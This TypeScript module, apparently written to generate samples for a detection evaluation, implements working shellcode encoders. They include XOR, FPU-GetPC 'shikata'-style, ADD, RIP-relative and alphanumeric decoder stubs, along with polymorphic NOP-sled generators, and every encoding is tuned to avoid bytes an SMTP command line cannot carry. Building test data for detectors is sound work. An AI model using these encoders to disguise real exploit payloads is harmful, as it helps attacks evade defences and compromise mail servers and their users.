/**
 * Shellcode encoders written for the evaluation: each emits a decoder stub followed by the
 * encoded body, the way real exploit encoders do, with random keys/registers so no two
 * samples share bytes. Stubs are hand-assembled (see comments); every encoder checks its
 * output avoids the bytes an SMTP command line cannot carry.
 */
import type { Rng } from './prng.js';

/** Bytes that cannot appear in a command argument: NUL (C strings), CR, LF, space, angle brackets. */
export const BAD = new Set([0x00, 0x0a, 0x0d, 0x20, 0x3c, 0x3e]);

export function clean(b: Uint8Array): boolean {
  for (const x of b) if (BAD.has(x)) return false;
  return true;
}

function cat(...parts: (Uint8Array | number[])[]): Uint8Array {
  const n = parts.reduce((a, p) => a + p.length, 0);
  const out = new Uint8Array(n);
  let o = 0;
  for (const p of parts) { out.set(p, o); o += p.length; }
  return out;
}

function le32(v: number): number[] {
  return [v & 0xff, (v >>> 8) & 0xff, (v >>> 16) & 0xff, (v >>> 24) & 0xff];
}

/** Grow the payload with trailing nops until its length byte is itself a clean byte. */
function padLen(payload: Uint8Array): Uint8Array {
  let n = payload.length;
  while (BAD.has(n & 0xff)) n++;
  const out = new Uint8Array(n).fill(0x90);
  out.set(payload);
  return out;
}

function retry(rng: Rng, make: () => Uint8Array | undefined): Uint8Array {
  for (let i = 0; i < 2000; i++) {
    const out = make();
    if (out && clean(out)) return out;
  }
  throw new Error('encoder: no clean encoding found');
}

/**
 * Byte XOR with a jmp/call/pop GetPC (works as i386 and x86-64 code):
 *   jmp short C; P: pop esi; xor ecx,ecx; mov cl,N; L: xor byte [esi+ecx-1],K; loop L;
 *   jmp short B; C: call P; B: body
 */
export function xorJmpCallPop(raw: Uint8Array, rng: Rng): Uint8Array {
  const payload = padLen(raw);
  if (payload.length > 255) throw new Error('payload too long');
  return retry(rng, () => {
    const k = rng.int(1, 255);
    const body = payload.map((b) => b ^ k);
    const stub = [0xeb, 0x0e, 0x5e, 0x31, 0xc9, 0xb1, payload.length, 0x80, 0x74, 0x0e, 0xff, k, 0xe2, 0xf9, 0xeb, 0x05, 0xe8, ...le32(-19)];
    return cat(stub, body);
  });
}

/**
 * Dword XOR with additive key feedback and an FPU GetPC (the "shikata" family), i386:
 *   mov eax,KEY; <fpu op>; fnstenv [esp-0xc]; pop R; xor ecx,ecx; mov cl,N;
 *   L: xor [R+D],eax; add eax,[R+D]; sub R,-4; loop L; body
 * The FPU op, the pointer register R and the key vary per sample.
 */
export function fpuXorFeedback(payload: Uint8Array, rng: Rng): Uint8Array {
  const padded = new Uint8Array(Math.ceil(payload.length / 4) * 4).fill(0x90);
  padded.set(payload);
  const n = padded.length / 4;
  if (n > 255) throw new Error('payload too long');
  const fpuOps = [[0xd9, 0xee], [0xd9, 0xe8], [0xd9, 0xeb], [0xda, 0xc1], [0xdb, 0xc9], [0xd9, 0xe4], [0xdd, 0xc0]];
  return retry(rng, () => {
    const r = rng.pick([3, 2, 6, 7]); // ebx, edx, esi, edi
    const fpu = rng.pick(fpuOps);
    let key = rng.u32();
    const k0 = key;
    const body = new Uint8Array(padded.length);
    for (let i = 0; i < n; i++) {
      const p = (padded[i * 4]! | (padded[i * 4 + 1]! << 8) | (padded[i * 4 + 2]! << 16) | (padded[i * 4 + 3]! << 24)) >>> 0;
      const e = (p ^ key) >>> 0;
      body.set(le32(e), i * 4);
      key = (key + p) >>> 0;
    }
    const d = 22; // body offset (27) minus the FPU op offset (5)
    const stub = [
      0xb8, ...le32(k0), ...fpu, 0xd9, 0x74, 0x24, 0xf4, 0x58 + r, 0x31, 0xc9, 0xb1, n,
      0x31, 0x40 | r, d, 0x03, 0x40 | r, d, 0x83, 0xe8 | r, 0xfc, 0xe2, 0xf5,
    ];
    return cat(stub, body);
  });
}

/**
 * Byte ADD encoding with a ret into the decoded body, i386:
 *   jmp short C; P: pop esi; push esi; cld; xor ecx,ecx; mov cl,N; L: sub byte [esi],K; inc esi;
 *   loop L; ret; C: call P; body
 */
export function addRet(raw: Uint8Array, rng: Rng): Uint8Array {
  const payload = padLen(raw);
  if (payload.length > 255) throw new Error('payload too long');
  return retry(rng, () => {
    const k = rng.int(1, 255);
    const body = payload.map((b) => (b + k) & 0xff);
    const stub = [0xeb, 0x0e, 0x5e, 0x56, 0xfc, 0x31, 0xc9, 0xb1, payload.length, 0x80, 0x2e, k, 0x46, 0xe2, 0xfa, 0xc3, 0xe8, ...le32(-19)];
    return cat(stub, body);
  });
}

/**
 * Byte XOR with RIP-relative GetPC, x86-64:
 *   lea rsi,[rip-1]; add rsi,D; xor ecx,ecx; mov cl,N; L: xor byte [rsi],K; inc rsi; loop L; body
 */
export function xorRipRelative(raw: Uint8Array, rng: Rng): Uint8Array {
  const payload = padLen(raw);
  if (payload.length > 255) throw new Error('payload too long');
  return retry(rng, () => {
    const k = rng.int(1, 255);
    const body = payload.map((b) => b ^ k);
    const stub = [0x48, 0x8d, 0x35, 0xff, 0xff, 0xff, 0xff, 0x48, 0x83, 0xc6, 0x11, 0x31, 0xc9, 0xb1, payload.length, 0x80, 0x36, k, 0x48, 0xff, 0xc6, 0xe2, 0xf8];
    return cat(stub, body);
  });
}

const ALNUM: number[] = [];
for (let c = 0x30; c <= 0x7a; c++) if (c <= 0x39 || (c >= 0x41 && c <= 0x5a) || c >= 0x61) ALNUM.push(c);
const isAlnum = (c: number): boolean => ALNUM.includes(c);

/** One-byte alphanumeric instructions that leave eax/ebx/ecx/edx and esp alone (i386). */
const ALNUM_PAD = [0x46, 0x47, 0x4e, 0x4f]; // inc esi, inc edi, dec esi, dec edi

/**
 * Alphanumeric encoder (i386), after the technique of Rix (Phrack 57) and the alpha2 family,
 * written from scratch. Expects ECX to hold the decoder's own address (a "base register", as
 * those encoders do). Each payload byte becomes two alphanumeric bytes (E1,E2) decoded in place:
 *   out[i] = mem[S+i] xor ((E1*0x30) xor E2) (low byte)
 * Stub: push ecx; pop edx; push V; pop eax; xor al,V; dec eax (al=0xff);
 *   xor [ecx+P],al (turns the alphanumeric jnz displacement into a backward one);
 *   push C; pop eax; xor eax,C' (eax=N); push eax/ecx/edx/eax/eax/ebp/esi/edi; popa (ebx=N,
 *   since "pop ebx" is not alphanumeric); pad;
 *   L: imul eax,[ecx+S],0x30; xor al,[ecx+S+1]; xor [edx+S],al; inc ecx; inc ecx; inc edx;
 *   pad; dec ebx; jnz L; S: pairs
 */
const HEADER = 31; // stub bytes before the first padding

export function alphanumeric(payload: Uint8Array, rng: Rng): Uint8Array {
  const n = payload.length;
  if (n > 127) throw new Error('payload too long for the alphanumeric counter');
  // Pick paddings so that the loop length minus one (the patched displacement) and the
  // offsets P (displacement byte), S and S+1 are all alphanumeric.
  const combos: [number, number][] = [];
  for (let pad1 = 0; pad1 < 40; pad1++) {
    for (let padL = 0; padL < 80; padL++) {
      const loopLen = 16 + padL;
      const p = HEADER + pad1 + loopLen - 1;
      if (isAlnum(loopLen - 1) && isAlnum(p) && isAlnum(p + 1) && isAlnum(p + 2)) combos.push([pad1, padL]);
    }
  }
  const [pad1, padL] = rng.pick(combos);
  const loopLen = 16 + padL;
  const p = HEADER + pad1 + loopLen - 1;
  const s = p + 1;
  const v = rng.pick(ALNUM);
  // eax = c ^ d = n with alphanumeric bytes.
  const pairs: [number, number][] = [];
  for (const a of ALNUM) for (const b of ALNUM) if ((a ^ b) === n) pairs.push([a, b]);
  if (pairs.length === 0) throw new Error(`no alphanumeric pair for count ${n}`);
  const [c0, d0] = rng.pick(pairs);
  const hiBytes = [rng.pick(ALNUM), rng.pick(ALNUM), rng.pick(ALNUM)];
  const pad = (k: number): number[] => Array.from({ length: k }, () => rng.pick(ALNUM_PAD));
  const stub = [
    0x51, 0x5a, 0x6a, v, 0x58, 0x34, v, 0x48, 0x30, 0x41, p,
    0x68, c0, ...hiBytes, 0x58, 0x35, d0, ...hiBytes,
    0x50, 0x51, 0x52, 0x50, 0x50, 0x55, 0x56, 0x57, 0x61,
    ...pad(pad1),
    0x6b, 0x41, s, 0x30, 0x32, 0x41, s + 1, 0x30, 0x42, s, 0x41, 0x41, 0x42,
    ...pad(padL),
    0x4b, 0x75, loopLen - 1,
  ];
  if (stub.length !== s) throw new Error('alphanumeric stub layout');
  const enc: number[] = [];
  const mul = (e1: number): number => (e1 * 0x30) & 0xff;
  for (let i = 0; i < n; i++) {
    const want = payload[i]!;
    const options: [number, number][] = [];
    for (const e1 of ALNUM) {
      const t = i === 0 ? e1 : enc[i]!;
      const e2 = want ^ t ^ mul(e1);
      if (isAlnum(e2)) options.push([e1, e2]);
    }
    if (options.length === 0) throw new Error('alphanumeric: unencodable byte');
    const [e1, e2] = rng.pick(options);
    enc.push(e1, e2);
  }
  // A few trailing alphanumerics: the last imul reads a dword.
  enc.push(rng.pick(ALNUM), rng.pick(ALNUM));
  return cat(stub, enc);
}

/** Sled generators. */
const SLED1_X86 = [0x90, 0x40, 0x41, 0x42, 0x43, 0x45, 0x46, 0x47, 0x48, 0x49, 0x4a, 0x4b, 0x4d, 0x4e, 0x4f, 0x91, 0x92, 0x93, 0x95, 0x96, 0x97, 0x98, 0x99, 0xf5, 0xf8, 0xf9, 0xfc, 0x27, 0x2f, 0x37, 0x3f, 0x9e];
const SLED1_X64 = [0x90, 0x91, 0x92, 0x93, 0x95, 0x96, 0x97, 0x98, 0x99, 0xf5, 0xf8, 0xf9, 0xfc, 0x9e];
/** Two-byte instructions "op imm8" whose immediate is itself a one-byte sled instruction. */
const SLED2_OPS = [0x04, 0x0c, 0x14, 0x1c, 0x24, 0x2c, 0x34, 0xa8, 0xb0, 0xb1, 0xb2, 0xb3, 0xb4, 0xb5, 0xb6, 0xb7];

export type SledKind = 'nop' | '0c0c' | '0c90' | 'poly' | 'alnum';

export function sled(kind: SledKind, len: number, arch: 'x86' | 'x64', rng: Rng): Uint8Array {
  const out: number[] = [];
  const one = arch === 'x86' ? SLED1_X86 : SLED1_X64;
  while (out.length < len) {
    switch (kind) {
      case 'nop': out.push(0x90); break;
      case '0c0c': out.push(0x0c); break;
      case '0c90': out.push(0x0c, 0x90); break;
      case 'alnum': out.push(rng.pick([0x42, 0x43, 0x46, 0x47, 0x48, 0x4a, 0x4b, 0x4e, 0x4f, 0x37])); break;
      default:
        // STRIDE-style polymorphic sled: mix of one-byte and imm8 forms where every offset decodes.
        if (rng.chance(0.4)) {
          const op = rng.pick(SLED2_OPS);
          // mov ah/ch/dh/bh,imm8 are fine too: no stack pointer involved.
          out.push(op, rng.pick(arch === 'x86' ? [...one, ...SLED2_OPS] : one));
        } else out.push(rng.pick(one));
    }
  }
  // End on a one-byte instruction so that no offset's last instruction swallows the code.
  const res = new Uint8Array(out.slice(0, len));
  if (kind !== 'alnum') res[len - 1] = 0x90;
  return res;
}
